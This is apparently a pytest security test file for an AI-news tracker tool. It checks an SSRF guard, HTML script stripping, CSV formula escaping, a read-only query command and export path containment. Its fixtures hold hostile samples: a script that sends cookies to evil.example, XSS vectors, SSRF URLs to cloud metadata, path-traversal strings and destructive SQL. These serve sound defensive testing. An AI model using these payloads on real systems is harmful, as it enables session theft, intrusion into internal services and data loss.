"""Hostile input: SSRF by feed/page/redirect URLs, script in HTML, CSV formulas, writes through `tracker query`,
export paths outside the configured root."""

from __future__ import annotations

import tomllib
from datetime import date, datetime, timezone
from pathlib import Path

import pytest

from tracker.cli import main as cli
from tracker.config import ConfigError, HttpConfig, parse_config
from tracker.analysis.export import ExportError, csv_bytes, export_root, export_week, file_stem, index_html, safe_path
from tracker.sources.extract import extract_article
from tracker.sources.http import BlockedAddress, build_client, check_url, fetch
from tracker.warehouse.runs import run_source
from tracker.warehouse.database import upsert, upsert_documents

REPO = Path(__file__).resolve().parents[1]
SCRIPTY_HTML = b"""<!doctype html><html><head><title>GPT-5.5 review</title>
<script>document.location='http://evil.example/?c='+document.cookie</script>
<style>body{background:url(javascript:alert(2))}</style></head>
<body><article><h1>GPT-5.5 review</h1>
<p>GPT-5.5 writes better code than GPT-5.4 in our three-week test, and it is faster too.</p>
<p onclick="alert(3)">We ran it on a dozen real repositories <img src=x onerror="alert(4)"> and it held up well.</p>
<noscript><iframe src="javascript:alert(5)"></iframe></noscript>
<template><script>alert(6)</script></template>
<p>The verdict: a solid upgrade for anyone who writes software every day with an assistant.</p>
</article><script src="http://evil.example/x.js"></script></body></html>"""
SCRIPT_MARKERS = ("<script", "alert(", "onerror", "onclick", "javascript:", "document.cookie", "evil.example", "<iframe")


def http_cfg(**overrides) -> HttpConfig:
    return HttpConfig(**{"allow_hosts": ["127.0.0.1"], "backoff_base_s": 0, "backoff_max_s": 0, "max_retries": 1,
                         "timeout_s": 2, **overrides})


def base_config(tmp_path: Path, **sections) -> dict:
    data = tomllib.loads((REPO / "tracker.toml").read_text())
    data["warehouse"]["path"] = str(tmp_path / "tracker.duckdb")
    data["http"].update(allow_hosts=["127.0.0.1"], backoff_base_s=0, backoff_max_s=0, max_retries=1, timeout_s=2)
    data["events"]["curated_file"] = str(REPO / data["events"]["curated_file"])
    data["trends"]["export_root"] = str(tmp_path / "exports")
    for name, values in sections.items():
        data[name] = {**data.get(name, {}), **values}
    return data


# ---------------------------------------------------------------- SSRF guard


@pytest.mark.parametrize("url, why", [
    ("file:///etc/passwd", "scheme"),
    ("gopher://127.0.0.1:70/", "scheme"),
    ("ftp://example.com/x", "scheme"),
    ("javascript:alert(1)", "scheme"),
    ("data:text/html,<script>alert(1)</script>", "scheme"),
    ("http://localhost/admin", "not public"),
    ("http://127.0.0.2:8080/", "not public"),
    ("http://2130706433/", "not public"),          # 127.0.0.1 as a decimal integer
    ("http://0x7f.0.0.1/", "not public"),          # and in hex
    ("http://0.0.0.0/", "not public"),
    ("http://10.1.2.3/", "not public"),
    ("http://172.16.0.1/", "not public"),
    ("http://192.168.1.1/", "not public"),
    ("http://169.254.169.254/latest/meta-data/", "not public"),  # cloud metadata
    ("http://[::1]/", "not public"),
    ("http://[fe80::1]/", "not public"),
    ("http://[::ffff:127.0.0.1]/", "not public"),
    ("http://[fd00::1]/", "not public"),
])
def test_non_public_addresses_and_other_schemes_are_refused(url, why):
    with pytest.raises(BlockedAddress, match=why):
        check_url(url, ["127.0.0.1"])


def test_allowlisted_host_and_public_addresses_pass():
    check_url("http://127.0.0.1:8080/feed", ["127.0.0.1"])
    check_url("https://93.184.215.14/", [])
    with pytest.raises(BlockedAddress):
        check_url("http://127.0.0.1:8080/feed", [])  # the same host, not allowlisted


@pytest.mark.parametrize("location", [
    "http://localhost:{port}/secret",                # same server, by a name that is not allowlisted
    "http://169.254.169.254/latest/meta-data/",
    "http://10.0.0.1/internal",
    "file:///etc/passwd",
])
def test_redirect_to_a_private_address_is_refused_before_connecting(replay, location):
    port = replay.base_url.rsplit(":", 1)[1]
    replay.add_route("GET", "/go", status=302, headers={"Location": location.format(port=port)})
    replay.add_route("GET", "/secret", text="internal data")
    cfg = http_cfg()
    with build_client(cfg) as client:
        with pytest.raises(BlockedAddress):
            fetch(client, f"{replay.base_url}/go", cfg, sleep=lambda s: None)
    assert replay.count("GET", "/go") == 1 and replay.count("GET", "/secret") == 0


# ---------------------------------------------------------------- feed-supplied URLs and HTML


def rss(base: str, links: list[tuple[str, str]]) -> str:
    items = "".join(
        f"<item><title>{title}</title><link>{link}</link><guid>{link}</guid>"
        f"<pubDate>Thu, 23 Apr 2026 17:00:00 GMT</pubDate><description>short teaser</description></item>"
        for title, link in links)
    return (f'<?xml version="1.0"?><rss version="2.0"><channel><title>Hostile</title><link>{base}/</link>'
            f"{items}</channel></rss>")


def test_feed_links_to_private_addresses_are_rejected_and_page_scripts_never_land(tmp_path, replay, warehouse):
    base = replay.base_url
    bad_links = ["file:///etc/passwd", "http://169.254.169.254/latest/meta-data/", "http://10.0.0.1/admin",
                 "gopher://127.0.0.1:25/"]
    replay.add_route("GET", "/feed.xml", text=rss(base, [(f"bad {i}", link) for i, link in enumerate(bad_links)]
                                                    + [("GPT-5.5 review", f"{base}/review")]),
                     headers={"Content-Type": "application/rss+xml"})
    replay.add_route("GET", "/robots.txt", text="User-agent: *\nAllow: /\n")
    replay.add_route("GET", "/review", text=SCRIPTY_HTML.decode(), headers={"Content-Type": "text/html; charset=utf-8"})
    data = base_config(tmp_path, blogs={"host_delay_s": 0, "feeds": [{"name": "Hostile", "url": f"{base}/feed.xml"}]})
    data["warehouse"]["path"] = warehouse.path
    cfg = parse_config(data, "test", REPO)
    from tracker.sources import blogs

    stats = run_source(warehouse, "blogs", lambda s: blogs.ingest(warehouse, cfg, s, sleep=lambda _: None))

    with warehouse.read() as con:
        docs = con.execute("SELECT doc_id, title, body FROM documents").fetchall()
        rejected = dict(con.execute("SELECT ref, reason FROM rejects WHERE source = 'blogs'").fetchall())
    assert [d[0] for d in docs] == [f"blog:{base}/review"]
    assert "GPT-5.5 writes better code" in docs[0][2]
    for marker in SCRIPT_MARKERS:
        assert marker not in (docs[0][1] + docs[0][2]).lower(), marker
    # feedparser spells file:///etc/passwd as file://etc/passwd; the reason says why, not "robots.txt".
    assert sorted(rejected.values()) == [
        "address 10.0.0.1 is not public (allowlist the host in [http] allow_hosts)",
        "address 169.254.169.254 is not public (allowlist the host in [http] allow_hosts)",
        "scheme 'file' is not allowed",
        "scheme 'gopher' is not allowed",
    ]
    assert stats.status == "ok" and stats.rejected == len(bad_links)
    # Only the allowlisted replay server was ever asked for anything.
    assert {r.path for r in replay.requests} == {"/feed.xml", "/robots.txt", "/review"}


def test_configured_feed_with_a_file_url_is_refused_with_a_clear_reason(tmp_path, warehouse):
    data = base_config(tmp_path, blogs={"host_delay_s": 0, "feeds": [{"name": "x", "url": "file:///etc/passwd"}]})
    data["warehouse"]["path"] = warehouse.path
    cfg = parse_config(data, "test", REPO)
    from tracker.sources import blogs

    run_source(warehouse, "blogs", lambda s: blogs.ingest(warehouse, cfg, s, sleep=lambda _: None))
    with warehouse.read() as con:
        assert con.execute("SELECT ref, reason FROM rejects").fetchall() == [
            ("file:///etc/passwd", "scheme 'file' is not allowed")]
        assert con.execute("SELECT count(*) FROM documents").fetchone()[0] == 0


def test_extracted_article_keeps_text_and_drops_every_script():
    article = extract_article(SCRIPTY_HTML, "https://example.com/review")
    text = (article.text + (article.title or "")).lower()
    assert "gpt-5.5 writes better code than gpt-5.4" in text and "held up well" in text
    for marker in SCRIPT_MARKERS:
        assert marker not in text, marker


# ---------------------------------------------------------------- report, CSV


def test_report_escapes_every_supplied_text(tmp_path, warehouse):
    """A full export over hostile rows, then the report renderer fed script in every text field it shows."""
    data = base_config(tmp_path)
    data["warehouse"]["path"] = warehouse.path
    cfg = parse_config(data, "test", REPO)
    with warehouse.write() as con:
        upsert_documents(con, [{"doc_id": "blog:https://x.example/a", "source": "blogs", "kind": "article",
                                "title": "<img src=x onerror=alert(1)>", "body": "<script>alert(2)</script> GPT-5.5",
                                "created_at": datetime(2026, 4, 24, tzinfo=timezone.utc)}])
    folder = export_week(warehouse, cfg, week="2026-W17", today=date(2026, 5, 10))
    for file in folder.iterdir():
        text = file.read_bytes()
        assert b"<script>alert" not in text and b"onerror=alert" not in text, file.name
    evil = '<script>alert("x")</script>'
    row = {"model_id": evil, "source": evil, "kind": evil, "coverage_status": evil, "occurred_at": evil, "status": evil}
    page = index_html(evil, date(2026, 4, 20), date(2026, 4, 26), [row], [row], [row], [(evil, evil + ".png")]).decode()
    assert "<script>alert" not in page and "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in page
    assert page.count("<script") == 0


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://e.x","c")'])
def test_export_csv_escapes_formula_cells(cell):
    out = csv_bytes(["a"], [{"a": cell}]).decode()
    assert out.split("\n", 1)[1].lstrip('"').startswith("'" + cell[:1]), out


def test_export_csv_leaves_numbers_alone():
    assert csv_bytes(["a", "b"], [{"a": -1.5, "b": "plain"}]).decode() == "a,b\n-1.500000,plain\n"


# ---------------------------------------------------------------- tracker query is read-only


@pytest.mark.parametrize("sql", [
    "DELETE FROM models",
    "INSERT INTO models VALUES ('x', 'v', 'f', 1, [])",
    "UPDATE models SET vendor = 'evil'",
    "DROP TABLE models",
    "CREATE TABLE evil AS SELECT 1",
    "ALTER TABLE models ADD COLUMN evil INTEGER",
])
def test_query_refuses_writes_and_says_it_is_read_only(tmp_path, warehouse, capsys, sql):
    data = base_config(tmp_path)
    data["warehouse"]["path"] = warehouse.path
    from faults.harness import write_config

    config = write_config(data, tmp_path / "t.toml")
    with warehouse.write() as con:
        upsert(con, "models", [{"model_id": "gpt-5.5", "vendor": "openai", "family": "gpt-5"}], ["model_id"])
    code = cli.main(["--config", str(config), "query", sql])
    err = capsys.readouterr().err
    assert code == 2 and "read-only" in err
    with warehouse.read() as con:
        assert con.execute("SELECT model_id, vendor FROM models").fetchall() == [("gpt-5.5", "openai")]
        assert con.execute("SELECT count(*) FROM information_schema.tables WHERE table_name = 'evil'").fetchone()[0] == 0


def test_query_refuses_a_write_hidden_after_a_select(tmp_path, warehouse, capsys):
    data = base_config(tmp_path)
    data["warehouse"]["path"] = warehouse.path
    from faults.harness import write_config

    config = write_config(data, tmp_path / "t.toml")
    with warehouse.write() as con:
        upsert(con, "models", [{"model_id": "gpt-5.5", "vendor": "openai", "family": "gpt-5"}], ["model_id"])
    assert cli.main(["--config", str(config), "query", "SELECT 1; DROP TABLE models"]) == 2
    assert "2 statements given" in capsys.readouterr().err
    with warehouse.read() as con:
        assert con.execute("SELECT model_id FROM models").fetchall() == [("gpt-5.5",)]


# ---------------------------------------------------------------- export paths and config values


@pytest.mark.parametrize("week", ["../../etc", "2026-W17/../../..", "/tmp/x", "2026-W99", "..", "2026-W17\x00"])
def test_export_week_outside_the_root_is_refused(tmp_path, warehouse, week):
    data = base_config(tmp_path)
    data["warehouse"]["path"] = warehouse.path
    cfg = parse_config(data, "test", REPO)
    with pytest.raises(ExportError):
        export_week(warehouse, cfg, week=week, today=date(2026, 5, 10))
    assert not (tmp_path / "etc").exists() and not Path("/tmp/x").exists()


def test_export_paths_stay_under_the_root(tmp_path):
    root = tmp_path / "exports"
    root.mkdir()
    for model_id in ("../../etc/passwd", "..", ".hidden", "a/b", "C:\\x", ""):
        assert safe_path(root, "weekly", "2026-W17", file_stem(model_id) + ".png").parent == root / "weekly" / "2026-W17"
    for parts in (("..", "x"), ("weekly", "..", "..", "x"), ("/etc/passwd",)):
        with pytest.raises(ExportError):
            safe_path(root, *parts)


def test_export_root_resolves_against_the_config_folder(tmp_path):
    cfg = parse_config({"trends": {"export_root": "out/exports"}}, "test", tmp_path)
    assert export_root(cfg) == (tmp_path / "out" / "exports").resolve()


@pytest.mark.parametrize("section, values, key", [
    ("http", {"max_body_bytes": 0}, "max_body_bytes"),
    ("http", {"max_redirects": 1000}, "max_redirects"),
    ("http", {"timeout_s": -1}, "timeout_s"),
    ("markets", {"pinned": [{"id": "file:///etc/passwd"}]}, "pinned"),
    ("reddit", {"since": "../../etc"}, "since"),
    ("warehouse", {"path": 42, "evil": True}, "evil"),
])
def test_bad_config_values_are_refused_with_the_key_named(section, values, key):
    with pytest.raises(ConfigError, match=key):
        parse_config({section: values}, "hostile.toml")
